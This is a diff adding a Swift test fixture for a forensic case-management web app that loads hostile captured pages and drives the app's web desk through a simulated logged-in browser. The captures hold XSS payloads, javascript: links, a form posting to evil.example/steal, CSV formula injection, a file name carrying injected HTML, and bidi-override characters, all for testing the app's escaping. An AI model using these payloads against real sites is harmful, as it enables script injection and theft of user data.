@@ -1,0 +1,140 @@
+import ClewCore
+import ClewServer
+import ClewWeb
+import ClewWorkflows
+import Foundation
+
+/// A small case with hostile and with plain captures, in a folder that goes away with it, and a browser without a window.
+final class DeskCase: Sendable {
+    static let wallet = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"
+    static let hostileTitle = "</title><script>alert('title')</script>"
+
+    let folder: String
+    let workspace: Workspace
+    let desk: Desk
+    /// Names and passwords.
+    let passwords: [Role: String]
+
+    init(isStated: Bool = true) throws {
+        folder = FileManager.default.temporaryDirectory.appendingPathComponent("clew-desk-\(UUID().uuidString)").path
+        try FileManager.default.createDirectory(atPath: folder + "/in", withIntermediateDirectories: true)
+        for (name, text) in DeskCase.captures {
+            try Data(text.utf8).write(to: URL(fileURLWithPath: "\(folder)/in/\(name)"))
+        }
+        let authority =
+            isStated
+            ? AuthorityStatement(officer: "M. Weber", caseReference: "62 Js 1/26", legalBasis: "§ 163 StPO")
+            : AuthorityStatement(officer: "", caseReference: "", legalBasis: "")
+        let clock: @Sendable () -> Timestamp = { Timestamp(seconds: 1_790_000_000) }
+        workspace = try Workspace.create(
+            at: folder + "/case", keysIn: folder + "/keys", name: "Ariadne <b>", authority: authority, clock: clock)
+        let permit = try workspace.permit(forOperatorWith: nil, purpose: "test")
+        _ = try workspace.importInputs(
+            ImportOptions(paths: [folder + "/in"], market: "hostile <i>market"), under: permit)
+        var passwords: [Role: String] = [:]
+        for role in Role.allCases {
+            passwords[role] = try workspace.addUser(role.rawValue, role: role, under: permit)
+        }
+        self.passwords = passwords
+        desk = try Desk(workspace: workspace, port: LoopbackPort.free() ?? 8080, clock: clock)
+    }
+
+    deinit {
+        try? FileManager.default.removeItem(atPath: folder)  // A folder that stays behind harms nobody.
+    }
+
+    /// A browser that is logged in.
+    func browser(as role: Role, purpose: String = "test & purpose") -> Browser {
+        let browser = Browser(self)
+        _ = browser.get("/login")
+        _ = browser.post(
+            "/login", ["name": role.rawValue, "password": passwords[role] ?? "", "purpose": purpose, "next": "/"])
+        return browser
+    }
+
+    private static let captures: [String: String] = [
+        "hostile.html": """
+        <!doctype html><html><head><title>&lt;/title&gt;&lt;script&gt;alert('title')&lt;/script&gt;</title>
+        <base href="http://evil.example/"><script>alert('script \(wallet)')</script>
+        <style>body{background:url(http://evil.example/a)}</style></head>
+        <body onload="alert('load')"><h1>Shop &lt;img src=x onerror=alert(1)&gt;</h1>
+        <p>Pay to \(wallet) or write to seller@tormail.example.
+        <a href="javascript:alert('link')">click</a> <a href="http://evil.example/x">shop</a></p>
+        <img src="http://evil.example/pixel.gif" onerror="alert('img')"><iframe src="http://evil.example"></iframe>
+        <p>turned \u{202E}txet\u{202C} round, \u{2066}isolated\u{2069}, nul \u{0} and esc \u{1B}[2J.</p>
+        <form action="http://evil.example/steal"><input name="pw" value="&quot;&gt;&lt;script&gt;"></form>
+        <!-- also 1BoatSLRHtKNngkdXEeobR76b53LETtpyT --><table><tr><td>{{frame.formToken}}</td></tr></table>
+        </body></html>
+        """,
+        "note \"><img src=x>.txt": """
+        Plain text of <b>somebody</b>: seller@tormail.example, \u{202E}\(wallet)
+        and <script>alert('text')</script> javascript:alert(1)
+        """,
+        "table.csv": """
+        title,price,contact
+        =HYPERLINK("http://evil.example"),0.5,seller@tormail.example
+        <script>alert('cell')</script>,0.7,\(wallet)
+        """,
+    ]
+}
+
+/// Asks a desk as a browser would: keeps the cookie, sends the fields of Fetch Metadata, follows nothing by itself.
+final class Browser {
+    let site: Site<Permit>
+    var cookie: String?
+    private(set) var token = ""
+
+    init(_ deskCase: DeskCase) { site = deskCase.desk.site }
+
+    var host: String { "127.0.0.1:\(site.home.port)" }
+
+    func get(_ target: String, headers: [(String, String)] = []) -> WebAnswer {
+        send(.get, target, headers: headers, body: nil)
+    }
+
+    func post(
+        _ target: String, _ fields: [String: String], withToken: Bool = true, headers: [(String, String)] = []
+    ) -> WebAnswer {
+        var fields = fields
+        if withToken { fields["token"] = token }
+        let body = fields.map { "\(Percent.encoded($0.key))=\(Percent.encoded($0.value))" }.joined(separator: "&")
+        return send(.post, target, headers: headers, body: body)
+    }
+
+    private func send(
+        _ method: WebRequest.Method, _ target: String, headers: [(String, String)], body: String?
+    ) -> WebAnswer {
+        var all = headers
+        let names = Set(headers.map { $0.0.lowercased() })
+        func add(_ name: String, _ value: String) {
+            if !names.contains(name.lowercased()) { all.append((name, value)) }
+        }
+        add("Host", host)
+        add("Sec-Fetch-Site", "same-origin")
+        if let cookie { add("Cookie", cookie) }
+        if body != nil {
+            add("Origin", "null")
+            add("Content-Type", "application/x-www-form-urlencoded")
+        }
+        let answer = site.answer(WebRequest(method, target, headers: all, body: Array((body ?? "").utf8)))
+        if let given = answer.value(of: "Set-Cookie") { cookie = given.split(separator: ";").first.map(String.init) }
+        if let found = answer.text.firstRange(of: "name=\"token\" value=\"") {
+            token = String(answer.text[found.upperBound...].prefix(64))
+        }
+        return answer
+    }
+}
+
+extension WebAnswer {
+    /// The body as text.
+    var text: String { String(decoding: body, as: UTF8.self) }
+
+    /// The addresses that the page leads to.
+    var links: [String] {
+        text.split(separator: "href=\"").dropFirst().compactMap { part in
+            part.split(separator: "\"", maxSplits: 1, omittingEmptySubsequences: false).first.map {
+                String($0).replacing("&amp;", with: "&")
+            }
+        }
+    }
+}
